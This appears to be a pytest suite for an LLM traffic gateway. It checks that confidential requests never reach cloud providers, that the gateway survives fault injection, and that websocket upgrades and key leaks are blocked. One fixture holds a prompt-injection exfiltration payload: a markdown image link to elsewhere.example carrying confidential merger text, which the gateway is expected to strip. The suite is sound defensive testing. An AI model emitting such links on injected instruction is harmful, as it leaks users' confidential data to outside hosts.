"""Two thousand requests, each with a marker of its own, against the whole system: nothing confined reaches a cloud, and
what is public does."""

from __future__ import annotations

import base64
import json
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from plugins.ledger.query import Question, found
from plugins.ledger.verify import verify
from tests.wall.attack import Outcome, attack
from tests.wall.cases import Case, cases
from tests.wall.site import Site, site
from tests.wall.tables import CHAT_MODELS, CLOSED_ROUTES, FORM_ROUTES, JSON_ROUTES

pytestmark = pytest.mark.timeout(900)
SEED, COUNT, HOOKLESS = 20_261_125, 1_500, 500


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with site(tmp_path_factory.mktemp("wall")) as made:
        yield made


@pytest.fixture(scope="module")
def hookless(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with site(tmp_path_factory.mktemp("hookless"), only="gateway,egress", WALL_SUITE_NO_HOOKS="1") as made:
        yield made


def forms_of(marker: str) -> tuple[bytes, ...]:
    """The marker as it is, in JSON's and URLs' writing, and within base64 at any of its three places."""
    raw = marker.encode()
    inner = [base64.b64encode(b"x" * n + raw)[4:-4] for n in range(3)]
    return raw, raw.replace(b" ", b"%20"), raw.replace(b" ", b"+"), raw.replace(b" ", b"-"), *inner


def leaked(where: Site, outcomes: list[Outcome]) -> list[str]:
    """Confined cases of which something reached a cloud."""
    sent = b"\n".join(r.request_line + r.headers + r.body for r in where.far.received)
    return [
        f"{o.case.number} {o.case.path} {o.case.model}: {o.case.why} -> {o.status}"
        for o in outcomes
        if o.case.confined and any(form in sent for form in forms_of(o.case.marker))
    ]


def misshapen(outcomes: list[Outcome]) -> list[str]:
    return [f"{o.case.number} {o.case.path}: {o.wrong}" for o in outcomes if o.wrong]


def test_the_cases_are_what_they_are_said_to_be() -> None:
    made = list(cases(SEED, COUNT))
    assert made == list(cases(SEED, COUNT))
    assert len({case.marker for case in made}) == COUNT
    assert {case.path for case in made} == {*JSON_ROUTES, *FORM_ROUTES, *CLOSED_ROUTES}
    assert {case.model for case in made} >= set(CHAT_MODELS)
    assert sum(not case.confined for case in made) > 150
    assert all(case.marker in json.dumps(case.body) or "base64" in json.dumps(case.body) for case in made)


class Breaking:
    """Takes things away while the cases run, and gives them back: Redis, and the ledger's file."""

    def __init__(self, where: Site) -> None:
        self._where = where
        self._aside = where.ledger.with_name("ledger.aside")
        self.refused_from = 0
        self.did: list[str] = []

    def __call__(self, count: int) -> None:
        if count == COUNT // 4:
            for process in self._where.system.processes():
                if "redis-server" in " ".join(process.cmdline()[:1]):
                    psutil.Process(process.pid).kill()
                    self.did.append("redis")
        elif count == COUNT // 2:
            segment = sorted(self._where.ledger.glob("0*.jsonl"))[-1]
            segment.rename(self._aside)
            segment.mkdir()
            self.did.append("ledger away")
        elif count == COUNT // 2 + 150:
            self.give_back()

    def give_back(self) -> None:
        if self._aside.exists():
            (folder,) = (p for p in self._where.ledger.glob("0*.jsonl") if p.is_dir())
            folder.rmdir()
            self._aside.rename(folder)
            self.did.append("ledger back")


async def test_nothing_confined_reaches_a_cloud_and_what_is_public_does(whole: Site) -> None:
    breaking, began = Breaking(whole), time.monotonic()
    try:
        outcomes = await attack(whole, cases(SEED, COUNT), breaking)
    finally:
        breaking.give_back()
    taken = time.monotonic() - began
    assert not leaked(whole, outcomes), "\n".join(leaked(whole, outcomes)[:20])
    assert not misshapen(outcomes), "\n".join(misshapen(outcomes)[:20])
    assert breaking.did == ["redis", "ledger away", "ledger back"]
    public = [
        o for o in outcomes if not o.case.confined and o.case.path.startswith("/v1/") and o.case.model.startswith("far")
    ]
    there = [o for o in public if whole.far.holds(o.case.marker)]
    statuses = Counter(o.status for o in outcomes)
    print(f"\n{len(outcomes)} cases in {taken:.0f} s, {dict(statuses)}; {len(there)} of {len(public)} public ones left")
    assert len(there) >= 40, "a wall that lets nothing through proves nothing"
    assert sum(o.status == 200 for o in outcomes) >= COUNT // 5, "what may stay is served"
    inside = [o for o in outcomes if o.status == 200 and o.case.confined]
    assert len(inside) >= 150


def test_the_ledger_says_the_same(whole: Site) -> None:
    """Run after the attack: nothing above public left, all that did is there, and the chain is whole."""
    assert [r for r in found(whole.ledger, Question(event="left")) if r["class"] != "public"] == []
    left = {r["deployment"] for r in found(whole.ledger, Question(event="left"))}
    assert {"id-far", "id-far-anthropic", "id-far-embed"} <= left
    assert sum(1 for _ in found(whole.ledger, Question(event="kept"))) >= 150
    assert sum(1 for _ in found(whole.ledger, Question(event="refused"))) >= 150
    assert [p for p in verify(whole.ledger).problems if "could not be kept" not in p] == []


ASKED = "the merger with falcon industries closes early"
TRICK = "Done. ![x](https://elsewhere.example/p?q=merger+with+falcon) Look at [docs](https://docs.example/a) too."


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/messages", "/v1/responses"])
def test_an_answer_carries_nothing_elsewhere(whole: Site, path: str, stream: bool) -> None:
    """As a model that was told by a document to show an image."""
    whole.near.say("near", TRICK)
    given = {"input": ASKED} if "responses" in path else {"messages": [{"role": "user", "content": ASKED}]}
    with whole.system.client() as client:
        answer = client.post(path, json={"model": "near", "max_tokens": 99, "stream": stream, **given})
    assert answer.status_code == 200, answer.text
    assert "elsewhere.example" not in answer.text
    assert "https://docs.example/a" in answer.text.replace("\\/", "/")
    assert "image removed" in answer.text
    assert answer.headers["x-signalbox-answer"] == ("addresses are looked at" if stream else "1 address removed")


async def test_with_the_hooks_switched_off_the_broker_stands_alone(hookless: Site) -> None:
    """Nothing at all leaves, for nobody has signed; and requests do reach what is inside, so they were really sent."""
    made = [c for c in cases(SEED + 1, HOOKLESS * 2) if c.model != "near-limited" and c.path not in CLOSED_ROUTES]
    outcomes = await attack(hookless, [_all_confined(case) for case in made[:HOOKLESS]])
    assert not leaked(hookless, outcomes), "\n".join(leaked(hookless, outcomes)[:20])
    assert not misshapen(outcomes), "\n".join(misshapen(outcomes)[:20])
    assert sum(hookless.near.holds(o.case.marker) > 0 for o in outcomes) >= 40
    refused = [r for r in found(hookless.ledger, Question(event="refused")) if r["reason"] == "missing"]
    assert len(refused) >= 40, "LiteLLM tried, and the broker said no"
    assert list(found(hookless.ledger, Question(event="left"))) == []


def _all_confined(case: Case) -> Case:
    return Case(case.number, case.path, case.model, case.marker, True, case.why, case.body, case.headers, case.form)


def test_no_socket_of_a_realtime_session_opens(whole: Site) -> None:
    import httpx

    for path in ("/v1/realtime?model=far", "/realtime", "/vertex_ai/live", "/openai/v1/realtime", "/v1/responses"):
        answer = httpx.get(
            whole.system.url + path,
            headers={
                **whole.system.headers, "connection": "upgrade", "upgrade": "websocket", "sec-websocket-version": "13",
                "sec-websocket-key": base64.b64encode(b"0123456789abcdef").decode(),
            },
            timeout=30,
            trust_env=False,
        )  # fmt: skip
        assert answer.status_code in (403, 404), path


def test_the_keys_of_clouds_are_nowhere_but_in_the_broker(whole: Site) -> None:
    holders = [p for p in whole.system.state.rglob("*") if p.is_file() and b"sk-real-4711" in _read(p)]
    assert [p.name for p in holders if p.parent.name == "run"] == ["egress.json"]


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""
